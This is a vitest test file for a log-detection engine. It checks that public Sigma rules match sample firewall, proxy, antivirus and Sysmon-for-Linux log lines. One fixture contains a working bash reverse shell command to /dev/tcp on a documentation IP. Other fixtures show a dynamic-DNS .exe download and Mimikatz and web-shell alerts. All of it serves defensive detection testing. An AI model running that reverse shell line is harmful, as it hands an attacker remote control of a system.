import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadRules } from '../../engine/detect/index.js';
import type { Matcher } from '../../engine/detect/types.js';
import eventxml from '../../engine/ingest/formats/eventxml.js';
import { loadFormats } from '../../engine/ingest/formats/index.js';
import { sharedData } from '../support/shared.js';

// What public rules for a kind of log source find in lines of the formats that claim to be of it.
const folder = sharedData('sigmahq/rules');
const template = eventxml.samples[0]!.line;
const sysmon = (id: number, data: Record<string, string>): string => {
  const pairs = Object.entries(data).map(([name, value]) => `<Data Name="${name}">${value}</Data>`);
  const event = template
    .replace(/<EventID>\d+</, `<EventID>${id}<`)
    .replace(/<EventData>.*<\/EventData>/, `<EventData>${pairs.join('')}</EventData>`);
  return `<14>Mar  4 08:00:00 web-03 sysmon: ${event}`;
};

describe.skipIf(!folder)('public rules (skipped without the shared data)', () => {
  let matcher: Matcher;
  let recogniser: ReturnType<Awaited<ReturnType<typeof loadFormats>>['recogniser']>;
  beforeAll(async () => {
    const paths = ['category/antivirus', 'network/firewall', 'web/proxy_generic', 'web/webserver_generic', 'linux'];
    ({ matcher } = await loadRules(paths.map((path) => join(folder!, path))));
    recogniser = (await loadFormats()).recogniser();
  });
  const titles = (line: string) => {
    const { parsed } = recogniser.read(line, null, Date.UTC(2026, 2, 5));
    return matcher.match(parsed).map((rule) => rule.title);
  };

  it.each([
    [
      'a firewall, CEF',
      '<134>Mar  4 08:00:00 fw-1 CEF:0|Acme|NGFW|1|traffic|allowed|3|src=10.20.4.17 dst=10.0.0.9 spt=5000 dpt=23 act=allow proto=tcp',
      ['Cleartext Protocol Usage'],
    ],
    [
      'a firewall, LEEF',
      'LEEF:1.0|Acme|NGFW|2.1|traffic|devTime=Mar 04 2026 08:00:00\tsrc=10.20.4.17\tdst=10.0.0.9\tdstPort=21\taction=accept',
      ['Cleartext Protocol Usage'],
    ],
    [
      'a proxy, CEF',
      'CEF:0|Zscaler|NSSWeblog|5.7|allowed|x|5|rt=1772611201000 act=Allowed dhost=files.hopto.org src=10.20.4.31 request=http://files.hopto.org/a/b.exe requestMethod=GET requestClientApplication=Mozilla/5.0',
      ['Download from Suspicious Dyndns Hosts'],
    ],
    [
      'a proxy, LEEF',
      'LEEF:2.0|Symantec|ProxySG|7.3|web|^|devTime=1772611201000^src=10.20.4.31^url=http://example.test/^method=GET^userAgent=Mozilla/5.0 (Windows NT; Windows NT 6.1; en-US) WindowsPowerShell/5.1',
      ['Windows PowerShell User Agent'],
    ],
    [
      'antivirus, CEF',
      'CEF:0|McAfee|ePolicy Orchestrator|5.10|1027|Infected file deleted|8|rt=1772611201000 cs1=HTool-Mimikatz cs1Label=Threat Name filePath=C:\\\\Users\\\\anna\\\\m.exe dhost=PC-4 act=deleted',
      ['Antivirus - Hacktool Signature', 'Antivirus - Password Dumper Signature'],
    ],
    [
      'antivirus, LEEF',
      'LEEF:2.0|ESET|Protect|10|Threat_Event|0x7C|devTime=1772611201000|cat=malware|fname=C:\\inetpub\\wwwroot\\x.aspx|threat=ASP/Webshell.Q',
      ['Antivirus - Relevant File Paths Alerts Signature', 'Antivirus - Web Shell Detection Signature'],
    ],
    [
      'Sysmon for Linux: a process',
      sysmon(1, {
        Image: '/usr/bin/bash',
        CommandLine: 'bash -i &gt;&amp; /dev/tcp/203.0.113.9/4444 0&gt;&amp;1',
        ParentImage: '/usr/sbin/apache2',
        User: 'www-data',
      }),
      ['Suspicious Reverse Shell Command Line', 'Suspicious Use of /dev/tcp', 'Bash Interactive Shell'],
    ],
    [
      'Sysmon for Linux: a connection',
      sysmon(3, {
        Image: '/bin/bash',
        Initiated: 'true',
        Protocol: 'tcp',
        SourceIp: '10.0.0.5',
        DestinationIp: '203.0.113.9',
        DestinationPort: '4444',
      }),
      ['Linux Reverse Shell Indicator'],
    ],
    [
      'Sysmon for Linux: a file',
      sysmon(11, { Image: '/usr/bin/vim', TargetFilename: '/etc/cron.d/backup', User: 'root' }),
      ['New Cron File Created'],
    ],
  ])('find what they look for in %s', (_what, line, expected) => {
    expect(titles(line)).toEqual(expect.arrayContaining(expected));
  });
});
